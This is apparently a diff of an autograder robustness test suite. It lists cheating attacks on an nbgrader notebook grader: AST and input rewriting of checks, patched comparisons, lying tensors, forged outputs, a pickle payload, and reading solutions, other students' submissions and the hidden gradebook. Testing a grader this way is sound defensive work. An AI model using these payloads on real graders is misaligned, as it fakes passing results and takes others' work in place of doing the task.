@@ -57,7 +57,7 @@ def _unlock_checks(notebook):
         marks = cell.metadata.get("nbgrader", {})
         if marks.get("grade") and not marks.get("solution"):
             marks.update(locked=False, solution=True)
-            cell.source = "3.0"
+            cell.source = "2.0"
 
 
 _LIES = """
@@ -140,7 +140,7 @@ import ast
 class Rewrite(ast.NodeTransformer):
     def visit_Call(self, node):
         if getattr(node.func, "id", "") == "check":
-            return ast.copy_location(ast.Constant(3.0), node)
+            return ast.copy_location(ast.Constant(2.0), node)
         return self.generic_visit(node)
     def visit_Assert(self, node):
         return ast.copy_location(ast.Pass(), node)
@@ -148,18 +148,21 @@ get_ipython().ast_transformers.append(Rewrite())
 """
 _INPUT = """
 def rewrite(lines):
-    return ["3.0\\n"] if any("check(" in line for line in lines) else lines
+    return ["2.0\\n"] if any("check(" in line for line in lines) else lines
 get_ipython().input_transformers_post.append(rewrite)
 """
 _READ = """
 from pathlib import Path
-import json, os, sys
+import json, math, os, sys
 found = []
+import torch
+from torch import nn, Tensor
+from jaxtyping import Float
 for start in [Path.cwd(), *Path.cwd().parents, *map(Path, sys.path), Path.home(), Path("@ROOT@"), Path("@CLASS@"), Path("/course")]:
     for pattern in PATTERNS:
         try: found += list(start.glob(pattern))
         except OSError: pass
-for file in found:
+for file in [file for file in found if "@NAME@" not in str(file)]:
     try: USE
     except Exception: pass
 """
@@ -173,6 +176,8 @@ _RUN_NOTEBOOK = (
     'exec("\\n".join("".join(c["source"]) for c in json.loads(file.read_text())["cells"]'
     ' if c["cell_type"] == "code" and "check(" not in "".join(c["source"])), globals())'
 )
+_RUN_HIDDEN = """exec("\\n".join(row[0] for row in __import__("sqlite3").connect(file).execute(
+        "select source from source_cell where source like 'def %' or source like 'class %'")), globals())"""
 _CACHED = """
 import json, torch
 from utils.check import all_exercises
@@ -230,8 +235,8 @@ _MODES_OFF = """def stable_softmax(e, dim=-1):
 
 ATTACKS = [
     Attack("displayhook", "print points through the display hook while being checked", _after_every_stub(
-        "import sys\ndef NAME(*a, **k):\n    sys.displayhook(3.0)\n    raise SystemExit")),
-    Attack("ast-transformer", "rewrite check(...) to 3.0 and drop asserts as cells are compiled", _AST),
+        "import sys\ndef NAME(*a, **k):\n    sys.displayhook(2.0)\n    raise SystemExit")),
+    Attack("ast-transformer", "rewrite check(...) to 2.0 and drop asserts as cells are compiled", _AST),
     Attack("input-transformer", "replace the text of the checks' cells before they run", _INPUT),
     Attack("comparisons-patched", "patch allclose, equal and == in torch and numpy", _all_are(
         "lambda *a, **k: torch.zeros(1)", _PATCHED)),
@@ -239,12 +244,12 @@ ATTACKS = [
     Attack("equal-to-all", "return an object that equals everything", _after_every_stub(_LIES + "NAME = lambda *a, **k: Liar()")),
     Attack("lying-tensor", "return a tensor subclass that agrees with every comparison", _after_every_stub(
         _LYING_TENSOR + "NAME = lambda *a, **k: torch.zeros(3).as_subclass(Agrees)")),
-    Attack("check-redefined", "define check to return points", _after_every_stub("check = lambda made: 3.0")),
-    Attack("checks-edited", "replace the checks' cells by points", _edit_checks("3.0")),
+    Attack("check-redefined", "define check to return points", _after_every_stub("check = lambda made: 2.0")),
+    Attack("checks-edited", "replace the checks' cells by points", _edit_checks("2.0")),
     Attack("points-raised", "raise the points in the checks' metadata", _raise_points),
     Attack("checks-unlocked", "mark the checks as solution cells, which are not restored", _unlock_checks),
     Attack("outputs-forged", "hand in checks that hold forged results", lambda notebook: [
-        cell.update(outputs=[nbformat.v4.new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)])
+        cell.update(outputs=[nbformat.v4.new_output("execute_result", data={"text/plain": "2.0"}, execution_count=1)])
         for cell in notebook.cells if cell.cell_type == "code"] and None),
     Attack("results-forged", "write lines of results to every open descriptor", _FORGED_LINES),
     Attack("array-headers", "send arrays whose headers lie about size and type, a pickle among them", _ARRAY_HEADERS),
@@ -257,16 +262,17 @@ ATTACKS = [
         "import sys, types\nfor name in [n for n in sys.modules if n.startswith(('utils', 'autograder'))]:\n"
         "    sys.modules[name] = types.ModuleType(name)")),
     Attack("reads-solution", "find the solution notebook and run it",
-           _reading(["solutions/*/*.ipynb", "*/solutions/*/*.ipynb"], _RUN_NOTEBOOK), weak=True),
-    Attack("reads-bank", "import the exercise bank and answer with its references", (
+           _after_every_stub(
+        _reading(["solutions/*/*.ipynb", "source/*/*.ipynb", "*/solutions/*/*.ipynb"], _RUN_NOTEBOOK)), weak=True),
+    Attack("reads-bank", "import the exercise bank and answer with its references", _after_every_stub(
         "import sys\nfrom pathlib import Path\nsys.path += [str(p) for p in [*Path.cwd().parents, '@ROOT@']]\n"
         "sys.path += [str(p.parent) for p in map(Path, list(sys.path))]\n"
         "from autograder.bank import units\nfor one in units()['04_attention_layer']:\n"
         "    globals()[one.name] = one.reference")),
     Attack("reads-gradebook", "read the hidden checks in the gradebook", _reading(
-        ["gradebook.db", "*/gradebook.db", "../gradebook.db"], 'found.append(__import__("sqlite3").connect(file).execute("select 1"))')),
-    Attack("reads-others", "find other submissions and run them", _reading(
-        ["submitted/*/*/*.ipynb", "*/submitted/*/*/*.ipynb", "../*/*/*.ipynb"], _RUN_NOTEBOOK), weak=True),
+        ["gradebook.db", "*/gradebook.db", "../gradebook.db"], _RUN_HIDDEN)),
+    Attack("reads-others", "find other submissions and run them", _after_every_stub(_reading(
+        ["submitted/*/*/*.ipynb", "*/submitted/*/*/*.ipynb", "../*/*/*.ipynb"], _RUN_NOTEBOOK)), weak=True),
     Attack("cached-answers", "answer with the expected values of the self-checks", _after_every_stub(
         _CACHED + "NAME = cached('NAME')")),
     Attack("expected-in-memory", "search the process's memory for expected values", _after_every_stub(
